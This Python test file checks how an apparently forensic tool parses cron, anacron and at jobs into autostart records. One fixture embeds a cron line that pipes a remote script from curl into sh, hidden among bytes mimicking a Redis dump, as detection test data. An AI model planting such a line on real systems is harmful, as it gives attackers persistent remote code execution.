"""What cron, anacron and at run."""

import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from davy.collect.autostarts.reading import ENTRIES_LIMIT, FILE_BYTES
from davy.collect.autostarts.reading.files import COMMAND_CHARACTERS
from davy.collect.autostarts.scheduled.cron import (
    TABLE_BYTES,
    anacron_lines,
    anacrontab_entries,
    at_commands,
    at_jobs,
    cron_lines,
    cron_scripts,
    crontab_entries,
)
from davy.host import Denied, DirectoryRoot, Entry, Host, MemoryRoot, live
from davy.model.autostarts import Autostart, AutostartKind
from davy.model.facts import Gap

PASSWD = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
COLLECTORS = (cron_lines, cron_scripts, anacron_lines, at_jobs)

FIELD = st.sampled_from(["*", "*/5", "0", "5-10", "1,2,3", "5-10/2", "07", "~"])
DAYS = st.sampled_from(["*", "1", "31", "*/2"])
MONTHS = st.sampled_from(["*", "12", "jan", "1-6"])
WEEKDAYS = st.sampled_from(["*", "sun", "1-5"])
SCHEDULE = st.one_of(
    st.tuples(FIELD, FIELD, DAYS, MONTHS, WEEKDAYS).map(" ".join),
    st.sampled_from(["@reboot", "@hourly", "@daily", "@midnight", "@weekly", "@monthly", "@yearly", "@annually"]),
)


def host(files: dict[str, bytes | str | Entry]) -> Host:
    return Host(MemoryRoot({"/etc/passwd": PASSWD, **files}))


def lines(files: dict[str, bytes | str | Entry]) -> list[Autostart]:
    found = list(cron_lines(host(files)))
    assert [fact for fact in found if isinstance(fact, Gap)] == []
    return [fact for fact in found if isinstance(fact, Autostart)]


def commands(content: str, **options: bool) -> list[str]:
    return [entry.command for entry in crontab_entries(content, **options)]


def test_a_line_of_a_users_table_is_an_autostart_with_line_schedule_user_and_programs() -> None:
    content = '# mine\nMAILTO=""\n\n*/5 * * * *  /usr/bin/nice /tmp/x >/dev/null 2>&1\n'
    path = "/var/spool/cron/crontabs/www-data"
    assert lines({path: Entry(content.encode(), mtime=12.5)}) == [
        Autostart(
            kind=AutostartKind.CRON,
            path=path,
            line=4,
            text="*/5 * * * *  /usr/bin/nice /tmp/x >/dev/null 2>&1",
            command="/usr/bin/nice /tmp/x >/dev/null 2>&1",
            schedule="*/5 * * * *",
            user="www-data",
            programs=("/usr/bin/nice", "/tmp/x"),
            mtime=12.5,
            ctime=12.5,
        )
    ]


def test_lines_of_the_systems_tables_name_the_user_before_the_command() -> None:
    found = lines({
        "/etc/crontab": "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n* * * * * /tmp/x\n",
        "/etc/cron.d/a.b": "@reboot www-data ~/x",
    })  # fmt: skip
    assert [(entry.path, entry.line, entry.user, entry.schedule, entry.command) for entry in found] == [
        ("/etc/crontab", 1, "root", "17 *\t* * *", "cd / && run-parts --report /etc/cron.hourly"),
        ("/etc/cron.d/a.b", 1, "www-data", "@reboot", "~/x"),
    ]
    assert found[1].programs == ("/var/www/x",)


@pytest.mark.parametrize(
    "path",
    [
        "/var/spool/cron/crontabs/bob",
        "/var/spool/cron/bob",
        "/var/spool/cron/tabs/bob",
        "/etc/crontabs/bob",
        "/var/cron/tabs/bob",
    ],
)
def test_the_spools_of_all_distributions_are_read_and_the_file_name_is_the_user(path: str) -> None:
    assert [(entry.path, entry.user) for entry in lines({path: "@daily x"})] == [(path, "bob")]


def test_a_spool_that_is_a_link_to_another_is_read_once() -> None:
    files: dict[str, bytes | str | Entry] = {
        "/var/spool/cron/crontabs": Entry(target="/etc/crontabs"),
        "/etc/crontabs/root": "* * * * * /tmp/x",
    }
    assert [entry.path for entry in lines(files)] == ["/etc/crontabs/root"]


@pytest.mark.parametrize(
    ("line", "schedule", "command"),
    [
        ("* * * * * x", "* * * * *", "x"),
        ("  0\t0  1 1 0   x y", "0\t0  1 1 0", "x y"),
        ("*/10,5-7/2,59 0-23/2 1,15,31 jan-DEC mon-fri x", "*/10,5-7/2,59 0-23/2 1,15,31 jan-DEC mon-fri", "x"),
        ("00 05 01 01 7 x", "00 05 01 01 7", "x"),
        ("0~59 ~ * * * x", "0~59 ~ * * *", "x"),
        ("-*/15 * * * * x", "*/15 * * * *", "x"),
        ("@hourly x", "@hourly", "x"),
        ("@reboot\t/x # y", "@reboot", "/x # y"),
        ("* * * * * A=b x", "* * * * *", "A=b x"),
        ("* * * * * x \r", "* * * * *", "x"),
        ("* * * * * x\0y", "* * * * *", "x"),
    ],
)
def test_every_way_to_write_a_schedule_is_understood(line: str, schedule: str, command: str) -> None:
    assert [(entry.schedule, entry.command) for entry in crontab_entries(line)] == [(schedule, command)]


@pytest.mark.parametrize(
    "line",
    [
        "", " ", "# * * * * * x", "A=b", 'A = "b c"', "'A' = b", "* * * * *", "* * * * * ", "* * * * x", "@never x",
        "@reboot",
        "60 * * * * x", "* 24 * * * x", "* * 0 * * x", "* * 32 * * x", "* * * 13 * x", "* * * * 8 x", "*/x * * * * x",
        "1- * * * * x", "1,, * * * * x", "REDIS0009\xfa\tredis-ver\x055.0.7", "\0* * * * * x", "٣ * * * * x",
    ],
)  # fmt: skip
def test_comments_settings_and_lines_that_cron_would_not_take_are_no_entries(line: str) -> None:
    assert commands(line) == []


def test_valid_lines_amid_the_bytes_of_a_database_are_found_with_their_line_number() -> None:
    content = (
        b"REDIS0009\xfa\tredis-ver\x055.0.7\xfa\nredis-bits\xc0@\xfa\x05ctime\xc2\xfe\xff\x00\x00\x01a\x40\x50\n\n"
        b"*/1 * * * * curl -fsSL http://h/i.sh | sh\n\n\x00\xff\x98\x11\n*/2 * * * * /tmp/x\n\xff\xfe"
    )
    found = lines({"/var/spool/cron/root": content})
    assert [(entry.line, entry.command) for entry in found] == [
        (4, "curl -fsSL http://h/i.sh | sh"),
        (7, "/tmp/x"),
    ]


def test_line_ends_do_not_count_and_every_other_byte_of_the_line_is_kept() -> None:
    found = lines({"/var/spool/cron/root": b"* * * * * a\r\n* * * * *\tb \xff\x0b\x1b[2J c"})
    assert [os.fsencode(entry.text) for entry in found] == [b"* * * * * a", b"* * * * *\tb \xff\x0b\x1b[2J c"]
    assert os.fsencode(found[1].command) == b"b \xff\x0b\x1b[2J c"


def test_an_unescaped_percent_sign_is_a_newline_and_an_escaped_one_is_itself() -> None:
    assert commands("@daily date +\\%s%a%b") == ["date +%s\na\nb"]
    assert commands("@daily date +%s", percent=False) == ["date +%s"]
    assert [entry.command for entry in lines({"/etc/crontabs/root": "@daily date +%s"})] == ["date +%s"]


def test_standard_input_counts_as_commands_only_where_a_shell_reads_it() -> None:
    found = lines({"/var/spool/cron/root": "@daily /bin/bash%/tmp/x\n@daily /bin/mail bob%/tmp/x\n"})
    assert [entry.programs for entry in found] == [("/bin/bash", "/tmp/x"), ("/bin/mail",)]


def test_a_huge_crontab_is_read_in_part_and_a_gap_says_so() -> None:
    content = b"* * * * * /tmp/x\n" + b"#" * 99 + b"\n" + b"# padding\n" * (TABLE_BYTES // 10) + b"* * * * * /tmp/y\n"
    found = list(cron_lines(host({"/etc/crontabs/root": content})))
    assert [fact.command for fact in found if isinstance(fact, Autostart)] == ["/tmp/x"]
    assert [fact.what for fact in found if isinstance(fact, Gap)] == ["the rest of /etc/crontabs/root"]


def test_a_crontab_of_very_many_entries_is_cut_and_a_gap_says_so() -> None:
    found = list(cron_lines(host({"/etc/crontabs/root": "@daily x\n" * (ENTRIES_LIMIT + 1)})))
    assert len([fact for fact in found if isinstance(fact, Autostart)]) == ENTRIES_LIMIT
    assert isinstance(found[-1], Gap)


def test_hostile_crontabs_take_less_than_two_seconds() -> None:
    started = time.process_time()
    for piece in ("\n", "* * * * * x\n", "1,", "*/1,", " ", "* ", "0", "0~", "1-1/1 ", "@reboot "):
        content = piece * (TABLE_BYTES // len(piece) // 4)
        list(crontab_entries(content))
        list(crontab_entries(content, system=True))
        list(anacrontab_entries(content))
    assert time.process_time() - started < 2.0


def test_a_fifo_a_folder_a_loop_or_a_device_where_a_crontab_should_be_is_a_gap(tmp_path: Path) -> None:
    folder = tmp_path / "etc/cron.d"
    folder.mkdir(parents=True)
    os.mkfifo(folder / "fifo")
    (folder / "folder").mkdir()
    (folder / "loop").symlink_to("loop")
    (folder / "good").write_text("@reboot root /tmp/x\n")
    (folder / "nowhere").symlink_to("gone")
    (tmp_path / "var/spool/cron").mkdir(parents=True)
    (tmp_path / "var/spool/cron/crontabs").symlink_to("crontabs")
    found = list(cron_lines(Host(DirectoryRoot(str(tmp_path)))))
    assert [fact.path for fact in found if isinstance(fact, Autostart)] == ["/etc/cron.d/good"]
    assert {fact.what for fact in found if isinstance(fact, Gap)} == {
        "/etc/cron.d/fifo",
        "/etc/cron.d/loop",
        "/var/spool/cron/crontabs",
    }
    assert {fact.collector for fact in found if isinstance(fact, Gap)} == {"cron"}


class Closed(MemoryRoot):
    """A root whose spool only root may list."""

    def names(self, path: str) -> list[str]:
        if path.startswith("/var/spool/cron/crontabs"):
            raise Denied(f"{path}: Permission denied")
        return super().names(path)


def test_a_spool_that_may_not_be_listed_is_a_gap_and_what_is_not_there_is_silence() -> None:
    root = Closed({"/etc/passwd": PASSWD, "/var/spool/cron/crontabs/root": "@daily x"})
    why = "/var/spool/cron/crontabs: Permission denied"
    assert list(cron_lines(Host(root))) == [Gap("cron", "/var/spool/cron/crontabs", why)]
    empty = Host(MemoryRoot({}))
    assert [fact for collector in COLLECTORS for fact in collector(empty)] == []


def test_executable_files_of_the_periodic_folders_are_entries_as_a_whole() -> None:
    files: dict[str, bytes | str | Entry] = {
        "/etc/cron.hourly/oanacroner": Entry(b"#!/bin/sh\n", mode=0o100755, mtime=3.0),
        "/etc/cron.daily/.placeholder": Entry(b"", mode=0o100644),
        "/etc/cron.weekly/folder/x": Entry(b"", mode=0o100755),
        "/etc/periodic/15min/x": Entry(b"", mode=0o100755),
    }
    found = list(cron_scripts(host(files)))
    assert found[0] == Autostart(
        kind=AutostartKind.CRON_SCRIPT,
        path="/etc/cron.hourly/oanacroner",
        command="/etc/cron.hourly/oanacroner",
        schedule="hourly",
        user="root",
        programs=("/etc/cron.hourly/oanacroner",),
        mtime=3.0,
        ctime=3.0,
    )
    assert [(fact.path, fact.schedule) for fact in found[1:] if isinstance(fact, Autostart)] == [
        ("/etc/periodic/15min/x", "15min")
    ]


def test_jobs_of_anacron_are_found_by_their_line() -> None:
    content = (
        "SHELL=/bin/sh\nRANDOM_DELAY=45\n#p d n c\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n@monthly 45 m /x"
    )
    found = [fact for fact in anacron_lines(host({"/etc/anacrontab": content})) if isinstance(fact, Autostart)]
    assert [(fact.kind, fact.line, fact.schedule, fact.user, fact.command, fact.programs) for fact in found] == [
        (AutostartKind.ANACRON, 4, "1\t5", "root", "nice run-parts /etc/cron.daily", ()),
        (AutostartKind.ANACRON, 5, "@monthly 45", "root", "/x", ("/x",)),
    ]


AT_JOB = """#!/bin/sh
# atrun uid=33 gid=33
# mail www-data 0
umask 22
PATH=/usr/bin:/bin; export PATH
cd /var/www || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
"""


@pytest.mark.parametrize("folder", ["/var/spool/at", "/var/spool/cron/atjobs", "/var/spool/atjobs"])
def test_a_job_of_at_is_the_commands_after_its_environment(folder: str) -> None:
    path = f"{folder}/a00001019c8f6e"
    found = list(at_jobs(host({
        path: Entry(f"{AT_JOB}./x\n/tmp/y &\n".encode(), mode=0o100700, uid=33, mtime=2.0),
        f"{folder}/.SEQ": "1",
        f"{folder}/spool/a": "",
    })))  # fmt: skip
    assert found == [
        Autostart(
            kind=AutostartKind.AT,
            path=path,
            command="./x\n/tmp/y &",
            schedule="2021-05-29T01:50:00Z",
            user="www-data",
            programs=("/var/www/x", "/tmp/y"),
            mtime=2.0,
            ctime=2.0,
        )
    ]


def test_a_job_of_at_in_red_hats_manner_is_the_commands_within() -> None:
    job = f"{AT_JOB}${{SHELL:-/bin/sh}} << 'marcinDELIMITER4b8e6f5a'\n/tmp/y\n\nmarcinDELIMITER4b8e6f5a\n"
    assert at_commands(job) == ("cd /var/www", "/tmp/y")


def test_a_job_of_at_without_the_usual_beginning_is_its_whole_text() -> None:
    found = list(at_jobs(host({"/var/spool/at/b00002ffffffff": Entry(b"/tmp/x\n", uid=4242)})))
    assert [(fact.command, fact.user) for fact in found if isinstance(fact, Autostart)] == [("/tmp/x", "4242")]


def test_a_huge_job_of_at_is_cut() -> None:
    found = list(at_jobs(host({"/var/spool/at/a00001019c8f6e": b"x\n" * FILE_BYTES})))
    assert [type(fact) for fact in found] == [Gap, Autostart]
    assert [len(fact.command) for fact in found if isinstance(fact, Autostart)] == [COMMAND_CHARACTERS]


def test_no_job_of_at_keeps_its_reader_busy_for_long() -> None:
    end = "a" * (FILE_BYTES // 4)
    for job in ("cd / || {\n" * (FILE_BYTES // 10), f"${{SHELL:-/bin/sh}} << '{end}'\n{end * 3}b"):
        started = time.process_time()
        at_commands(job)
        assert time.process_time() - started < 0.2


@given(
    st.lists(st.binary(max_size=60)), SCHEDULE, st.text(st.characters(min_codepoint=33, max_codepoint=126), min_size=1)
)
def test_whatever_stands_around_it_a_valid_line_is_found(garbage: list[bytes], schedule: str, command: str) -> None:
    line = f"{schedule} {command}"
    content = b"\n".join([*garbage, line.encode(), *garbage])
    number = content[: sum(len(piece) + 1 for piece in garbage)].count(b"\n") + 1
    found = {entry.line: entry for entry in crontab_entries(os.fsdecode(content), percent=False)}
    assert (found[number].schedule, found[number].command, found[number].text) == (schedule, command, line)


@given(st.binary())
def test_whatever_the_bytes_the_entries_are_lines_of_the_file(content: bytes) -> None:
    text = os.fsdecode(content)
    rows = text.split("\n")
    for entry in [*crontab_entries(text), *crontab_entries(text, system=True), *anacrontab_entries(text)]:
        assert rows[entry.line - 1].removesuffix("\r") == entry.text
        assert entry.schedule in entry.text
    assert at_commands(text)[1] in text


@pytest.mark.live
@pytest.mark.parametrize("collector", COLLECTORS)
def test_on_this_host_every_fact_is_an_autostart_of_its_kind_or_a_gap(
    collector: Callable[[Host], Iterator[Autostart | Gap]],
) -> None:
    for fact in collector(live()):
        assert isinstance(fact, Autostart | Gap)
        if isinstance(fact, Autostart):
            assert fact.path.startswith("/")
            assert fact.command
            assert fact.user
            assert fact.schedule
            assert fact.mtime
            assert all(program.startswith("/") for program in fact.programs)
